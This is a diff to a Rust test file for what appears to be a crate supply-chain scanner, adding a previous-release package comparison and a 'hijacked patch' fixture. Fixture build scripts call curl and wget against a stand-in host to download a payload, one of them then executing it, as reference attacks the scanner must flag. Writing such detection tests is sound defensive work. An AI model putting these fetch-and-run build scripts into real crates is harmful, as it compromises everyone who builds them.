@@ -8,9 +8,10 @@ mod common;
 use std::collections::BTreeMap;
 
 use cargofox::analyze::{AnalyzeContext, analyze};
-use cargofox::fetch::{CrateInput, IndexFacts};
+use cargofox::fetch::{CrateInput, IndexFacts, PreviousRelease};
 use cargofox::model::{CrateReport, Dependency, RiskLevel, VersionInfo};
 use common::Fixture;
+use sha2::Digest;
 
 const POPULAR: &[&str] = &[
     "rust_decimal",
@@ -28,6 +29,8 @@ struct Case {
     deps: Vec<&'static str>,
     published: &'static str,
     previous: Option<(&'static str, Vec<&'static str>)>,
+    /// The previous release's package, for the package comparison.
+    previous_package: Option<Fixture>,
 }
 
 fn case(fixture: Fixture) -> Case {
@@ -36,6 +39,7 @@ fn case(fixture: Fixture) -> Case {
         deps: Vec::new(),
         published: "2026-01-01T00:00:00Z",
         previous: None,
+        previous_package: None,
     }
 }
 
@@ -90,7 +94,13 @@ fn site(cases: Vec<Case>) -> BTreeMap<String, CrateReport> {
                 published: Some(c.published.into()),
                 ..VersionInfo::default()
             });
+            let previous_file = c.previous_package.as_ref().map(|p| {
+                let path = dir.path().join(format!("{}-{}.crate", p.name, p.version));
+                std::fs::write(&path, p.crate_bytes()).unwrap();
+                path
+            });
             let input = CrateInput {
+                previous_file,
                 name: f.name.clone(),
                 version: f.version.clone(),
                 file: Some(path),
@@ -98,10 +108,14 @@ fn site(cases: Vec<Case>) -> BTreeMap<String, CrateReport> {
                     versions,
                     dependencies: c.deps.iter().map(|d| dep(d)).collect(),
                     features: BTreeMap::new(),
-                    previous: c
-                        .previous
-                        .as_ref()
-                        .map(|(v, d)| ((*v).to_owned(), d.iter().map(|n| dep(n)).collect())),
+                    previous: c.previous.as_ref().map(|(v, d)| PreviousRelease {
+                        version: (*v).to_owned(),
+                        dependencies: d.iter().map(|n| dep(n)).collect(),
+                        sha256: c
+                            .previous_package
+                            .as_ref()
+                            .map_or([0; 32], |p| sha2::Sha256::digest(p.crate_bytes()).into()),
+                    }),
                 }),
                 ..CrateInput::default()
             };
@@ -206,6 +220,13 @@ fn the_reference_attacks_are_judged_high() {
             published: "2026-01-09T10:00:00Z",
             ..case(Fixture::new("proc-macro1", "1.0.95", "description = \"A substitute implementation of the compiler's proc_macro API\"")
                 .file("build.rs", "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{out}/p\");\n    std::process::Command::new(\"curl\").args([\"-sLo\", &p, \"https://payload.invalid/p\"]).status().unwrap();\n    std::process::Command::new(&p).status().unwrap();\n}\n"))
+        },
+        // A hijacked account's patch release that adds a build script fetching a program.
+        Case {
+            previous: Some(("2.4.1", vec![])),
+            previous_package: Some(Fixture::new("hijacked-patch", "2.4.1", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")),
+            ..case(Fixture::new("hijacked-patch", "2.4.2", "description = \"Colour names\"\nrepository = \"https://github.com/o/hp\"")
+                .file("build.rs", "fn main() {\n    let _ = std::process::Command::new(\"wget\").arg(\"https://payload.invalid/p\").status();\n}\n"))
         },
         // ...pulled into an established crate by a patch release.
         Case {
